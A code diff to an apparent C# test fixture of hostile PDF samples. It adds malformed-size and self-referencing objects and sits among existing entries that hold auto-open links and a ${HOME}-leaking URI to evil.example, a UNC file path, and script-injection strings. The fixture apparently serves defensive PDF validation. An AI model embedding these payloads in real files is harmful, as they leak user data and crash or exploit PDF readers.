@@ -96,6 +96,7 @@ static class HostilePdfs
                     ("<</Type /Catalog /AA <</WC <</S /URI /URI (https://evil.example)>> >> >>", FileFault.OpensByItself),
                     ("<</Type /Page /AA 51 0 R>>", FileFault.OpensByItself),
                     ("<</S /URI /URI (vnd.sun.star.expand:https://evil.example/?v=${HOME})>>", FileFault.OddAddress),
+                    ("<</Subtype /Image /Width -99999999999999999999 /Height 1>>", FileFault.Damaged),
                     ("<</Type /Font /FontMatrix [1 2 3 4 5 (1\\); alert\\(1)]>>", FileFault.Damaged),
                     ("<</Subtype /Text /T (<img src=x onerror=alert\\(1\\)>)>>", FileFault.JavaScript),
                     ("<</Subtype /Image /F (\\\\evil.example\\a.jpg) /Length 0>>\nstream\n\nendstream", FileFault.OtherFile),
@@ -111,6 +112,18 @@ static class HostilePdfs
                 Pdf($"9 0 obj\n{objects}\nendobj\n50 0 obj\n<</S /URI /URI (https://evil.example)>>\nendobj\n" + "51 0 obj\n<</O 50 0 R>>\nendobj\n"),
                 fault
             );
+        // What leads to itself, many times.
+        yield return (
+            Pdf($"5 0 obj\n<</S /GoTo /Next [{string.Concat(Enumerable.Repeat("5 0 R ", 40))}]>>\nendobj\n9 0 obj\n<</OpenAction 5 0 R>>\nendobj\n"),
+            FileFault.UnpacksTooFar
+        );
+        yield return (
+            Pdf(
+                $"5 0 obj\n<<{string.Concat(Enumerable.Range(0, 200).Select(key => $"/K{key} 5 0 R"))}>>\nendobj\n",
+                trailer: "<</Root 1 0 R /Encrypt 5 0 R>>"
+            ),
+            FileFault.Encrypted
+        );
         // What cannot be read to its end, or has none.
         yield return (
             Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
